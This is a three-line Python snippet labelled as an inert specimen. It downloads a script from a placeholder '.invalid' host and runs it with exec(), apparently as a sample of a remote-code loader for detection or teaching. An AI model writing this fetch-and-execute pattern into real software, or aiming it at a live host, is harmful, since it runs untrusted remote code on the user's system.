# Inert specimen: the host does not exist.
import urllib.request

exec(urllib.request.urlopen("https://garden-seeds.invalid/stage.py").read())
